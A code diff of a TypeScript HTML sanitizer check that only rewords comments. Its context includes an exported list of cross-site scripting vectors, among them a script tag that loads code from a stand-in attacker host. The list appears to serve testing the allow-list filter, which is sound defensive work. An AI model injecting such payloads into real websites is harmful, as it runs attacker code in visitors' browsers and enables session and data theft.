@@ -1,5 +1,5 @@
 const VALUE = '[^"<>]*';
-/** Every shape that may stand between angle brackets. */
+/** All tags on the allow-list. */
 const ALLOWED = new RegExp(
   [
     '</?(?:p|h2|h3|blockquote|ul|ol|li|strong|em|u|s)>',
@@ -11,11 +11,11 @@ const ALLOWED = new RegExp(
   'gi',
 );
 
-/** The first bit of markup that is not on the allow-list, found without a parser's opinion; null if there is none. */
+/** First markup that is not on the allow-list, found without a parser; null if there is none. */
 export const markupBeyondTheAllowList = (html: string): string | null =>
   html.replace(ALLOWED, '').match(/[<>][^<>]{0,40}/)?.[0] ?? null;
 
-/** Ways past naive filters, one an entry: each would act in some browser if it were let through unchanged. */
+/** Ways past naive filters: each would run in some browser if it got through unchanged. */
 export const XSS_VECTORS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
